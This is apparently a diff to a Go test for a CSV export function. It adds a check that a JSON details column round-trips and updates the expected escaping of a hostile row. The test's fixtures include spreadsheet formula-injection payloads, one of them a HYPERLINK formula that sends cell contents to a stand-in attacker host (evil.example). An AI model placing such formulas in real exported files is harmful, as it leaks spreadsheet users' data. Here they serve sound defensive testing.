@@ -193,10 +193,21 @@ func TestExportCSV(t *testing.T) {
 			if !reflect.DeepEqual(got, exp) {
 				t.Errorf("row %d = %q, want %q", i, got, exp)
 			}
+			// The details parse back as JSON to the record's, whatever
+			// their keys and values hold.
+			var details map[string]string
+			if row[10] != "" {
+				if err := json.Unmarshal([]byte(row[10]), &details); err != nil {
+					t.Errorf("row %d details %q: %v", i, row[10], err)
+				}
+			}
+			if len(details)+len(r.Details) > 0 && !reflect.DeepEqual(details, r.Details) {
+				t.Errorf("row %d details = %q, want %q", i, details, r.Details)
+			}
 		}
 		h := rows[1]
 		if h[5] != `'=HYPERLINK("http://evil.example/?"&A1,"x")` || h[6] != "'+1+1" || h[9] != "'@SUM(1)" ||
-			h[8] != "a,b \"quoted\"\nsecond line\r" || h[10] != "'=k=v;w;alpha=x\uFFFDy;zeta=-2" {
+			h[8] != "a,b \"quoted\"\nsecond line\r" || h[10] != "{\"=k\":\"v;w\",\"alpha\":\"x\uFFFDy\",\"zeta\":\"-2\"}" {
 			t.Errorf("hostile row = %q", h)
 		}
 		if rows[2][10] != "" {
